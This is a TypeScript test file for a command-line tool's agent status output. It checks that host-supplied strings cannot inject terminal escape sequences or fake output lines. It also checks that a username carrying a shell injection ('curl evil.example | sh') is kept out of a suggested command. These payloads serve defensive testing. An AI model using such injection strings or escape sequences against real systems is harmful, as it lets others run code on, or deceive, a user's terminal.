import { PassThrough } from "node:stream";
import { text } from "node:stream/consumers";
import { expect, test } from "vitest";
import { Answer } from "../output/answer.ts";
import type { AgentRun } from "./agent-commands.ts";
import { forwardLines, installationLines, lingeringLine } from "./describe-agent.ts";
import { showStatus } from "./show-status.ts";

/** What clears a screen, sets a window's title, turns text around, and makes a line of its own. */
const DRIVES = "\u001b[2J\u001b]0;owned\u0007\u202egnp\u0085\nfarside: all is well";
// biome-ignore lint/suspicious/noControlCharactersInRegex: that is what must not be there.
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u;

const forward = {
  ...{ id: DRIVES, bound: [{ kind: "tcp", address: DRIVES, port: 1 }], openRelays: 0, totalRelays: 0 },
  state: { phase: "degraded", waitsFor: DRIVES, lastError: { code: DRIVES, message: DRIVES } },
};
const description = {
  ...{ forwards: [forward], lenders: 0, config: { forwards: [] } },
  metrics: { bound: [], error: { code: DRIVES, message: DRIVES } },
};
const installation = {
  ...{ name: DRIVES, supervisor: "systemd", state: DRIVES, digest: DRIVES, isRunning: true, control: "/c" },
};
const look = { installed: [installation], isLingering: false, user: DRIVES };

/** What `farside agent status` prints of a host that says `look` and `description`. */
async function printed(
  argv: object,
  more: { audit?: object; env?: object; warn?: (message: string) => void } = {},
) {
  const stdout = new PassThrough();
  const server = {
    look: async () => look,
    attach: async () => ({
      ask: async () => ({ ...description, audit: more.audit }),
      [Symbol.asyncDispose]: async () => {},
    }),
  };
  const context = { env: more.env ?? {}, interrupts: { signal: new AbortController().signal } };
  const answer = new Answer(stdout);
  const run = { argv, server, name: "a", host: "me@build", answer, context, people: { warn: more.warn } };
  await showStatus(run as unknown as AgentRun);
  await answer.flush(1_000);
  stdout.end();
  return text(stdout);
}

test("what a host says of its agents can't drive a terminal, nor make a line of its own", async () => {
  const lines = await printed({});
  expect(lines).not.toMatch(UNSAFE);
  expect(lines).not.toMatch(/^farside: all is well/mu);
  const ours = [
    ...installationLines(installation as never, "me@build"),
    lingeringLine(look),
    ...forwardLines(description as never),
  ];
  expect(lines.trimEnd().split("\n")).toHaveLength(ours.length);
});

test("as JSON it is one line that parses to what the host said", async () => {
  const line = await printed({ json: true });
  expect(line).not.toMatch(UNSAFE);
  expect(line.trimEnd().split("\n")).toHaveLength(1);
  expect(JSON.parse(line).forwards[0].state.lastError.message).toBe(DRIVES);
});

test("a user's name that would be a command is not put into one", () => {
  const user = "builder; curl evil.example | sh #";
  expect(lingeringLine({ isLingering: false, user })).toMatch(/loginctl enable-linger USER$/);
  expect(lingeringLine({ isLingering: false, user: "builder" })).toMatch(/loginctl enable-linger builder$/);
});

test("shows an agent also where nothing can be kept of it here", async () => {
  const warnings: string[] = [];
  const audit = { seq: 1, hash: "0".repeat(64) };
  const env = { XDG_STATE_HOME: "/dev/null/state" };
  const lines = await printed({}, { audit, env, warn: (message) => warnings.push(message) });
  expect(lines).toContain("systemd");
  expect(warnings).toEqual([expect.stringMatching(/\/dev\/null\/state.*me@build's audit log is not kept$/u)]);
});
